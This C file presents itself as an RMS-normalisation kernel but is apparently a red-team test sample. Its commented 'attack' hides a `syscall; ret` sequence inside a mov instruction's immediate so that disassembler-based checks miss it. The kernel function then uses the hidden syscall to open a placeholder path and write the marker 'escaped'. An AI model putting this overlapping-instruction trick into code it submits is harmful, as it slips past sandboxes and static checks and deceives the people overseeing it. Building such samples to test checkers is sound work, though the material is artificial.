#include <math.h>

/* attack: a syscall hidden inside another instruction's immediate. `movl $0x00c3050f, %r10d` encodes
   as 41 ba 0f 05 c3 00; a call to its third byte runs `syscall; ret`. A disassembler decoding from
   instruction starts sees only the mov. */
static void rms(const float* x, const float* w, float* y, int r, int c) {
    for (int i = 0; i < r; i++) {
        float q = 0.0f;
        for (int j = 0; j < c; j++) q += x[(long)i * c + j] * x[(long)i * c + j];
        float inv = 1.0f / sqrtf(q / c + 1e-6f);
        for (int j = 0; j < c; j++) y[(long)i * c + j] = x[(long)i * c + j] * inv * w[j];
    }
}

static long sys3(long n, long a, long b, long c) {
    long ret;
    __asm__ volatile(
        "jmp 2f\n\t"
        "1: movl $0x00c3050f, %%r10d\n\t"
        "2: sub $128, %%rsp\n\t" /* step over the red zone before the call pushes */
        "lea 1b+2(%%rip), %%r11\n\t"
        "call *%%r11\n\t"
        "add $128, %%rsp\n\t"
        : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r10", "r11", "memory");
    return ret;
}

void kernel(const float* x, const float* w, float* y, int r, int c) {
    static const char path[] = "@SENTINEL@";
    long fd = sys3(2 /* open */, (long)path, 01 | 0100 /* O_WRONLY|O_CREAT */, 0644);
    if (fd >= 0) sys3(1 /* write */, fd, (long)"escaped", 7);
    rms(x, w, y, r, c);
}
